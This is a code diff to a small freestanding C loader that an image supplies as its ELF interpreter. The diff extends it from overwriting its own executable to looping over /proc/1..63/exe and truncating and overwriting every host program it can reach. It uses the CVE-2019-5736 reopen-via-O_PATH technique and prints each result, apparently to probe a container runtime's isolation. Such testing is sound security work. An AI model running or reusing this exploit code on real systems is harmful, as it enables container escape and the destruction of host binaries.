@@ -1,6 +1,8 @@
-/* A loader (PT_INTERP) that an image gives to a program of the host which it made the kernel execute. It
- * has no C library: the kernel starts it in the place of the real one. It tries to write the program. */
+/* A loader (PT_INTERP) that an image gives to whatever program the kernel executes inside. It has no C library:
+ * the kernel starts it in the place of the real one. It tries to write the programs of all processes. */
 #include <sys/syscall.h>
+
+enum { O_PATH = 010000000, FOR_WRITING = 1, TRUNCATED = 2 | 01000, MOST = 64 };
 
 static long call(long number, long a, long b, long c) {
   long result;
@@ -18,35 +20,52 @@ static void say(const char *text) {
   call(SYS_write, 1, (long)text, length);
 }
 
-static void number(long value) {
-  char text[24];
+static char *digits(char text[24], long value) {
   int at = 23;
   unsigned long rest = value < 0 ? (unsigned long)-value : (unsigned long)value;
   text[at] = 0;
   do text[--at] = (char)('0' + rest % 10);
   while ((rest /= 10) && at > 1);
   if (value < 0) text[--at] = '-';
-  say(text + at);
+  return text + at;
+}
+
+static void number(long value) {
+  char text[24];
+  say(" ");
+  say(digits(text, value));
+}
+
+/* Opened as it is, and as CVE-2019-5736 does: by O_PATH, then again for writing. */
+static void overwrite(const char *path) {
+  number(call(SYS_open, (long)path, FOR_WRITING, 0));
+  number(call(SYS_open, (long)path, TRUNCATED, 0));
+  long fd = call(SYS_open, (long)path, O_PATH, 0);
+  char again[] = "/proc/self/fd/0";
+  if (fd < 0 || fd > 9) return;
+  again[14] = (char)('0' + fd);
+  long opened = call(SYS_open, (long)again, TRUNCATED, 0);
+  number(opened);
+  if (opened >= 0) call(SYS_write, opened, (long)"overwritten", 11);
+  call(SYS_close, fd, 0, 0);
 }
 
 void _start(void) {
-  say("loader of ");
-  char path[256];
+  char path[256], text[24];
   long length = call(SYS_readlink, (long)"/proc/self/exe", (long)path, sizeof path - 1);
   path[length > 0 ? length : 0] = 0;
+  say("loader of ");
   say(path);
-  say(": ");
-  /* O_WRONLY, which fails with ETXTBSY as long as it runs, if it is not forbidden before. */
-  long busy = call(SYS_open, (long)"/proc/self/exe", 1, 0);
-  number(busy);
-  say(" ");
-  /* O_PATH, then again for writing once nobody runs it: the way of CVE-2019-5736. */
-  long fd = call(SYS_open, (long)"/proc/self/exe", 010000000, 0);
-  char again[] = "/proc/self/fd/0";
-  if (fd >= 0 && fd < 10) again[14] = (char)('0' + fd);
-  long opened = call(SYS_open, (long)again, 1 | 01000, 0);
-  number(opened);
-  if (opened >= 0) call(SYS_write, opened, (long)"overwritten", 11);
+  say(":");
+  overwrite("/proc/self/exe");
+  for (long pid = 1; pid < MOST; pid++) {
+    char *from = digits(text, pid), *to = path;
+    for (const char *part = "/proc/"; *part;) *to++ = *part++;
+    while (*from) *to++ = *from++;
+    for (const char *part = "/exe"; *part;) *to++ = *part++;
+    *to = 0;
+    if (call(SYS_access, (long)path, 0, 0) == 0) overwrite(path);
+  }
   say("\n");
   call(SYS_exit_group, 1, 0, 0);
 }
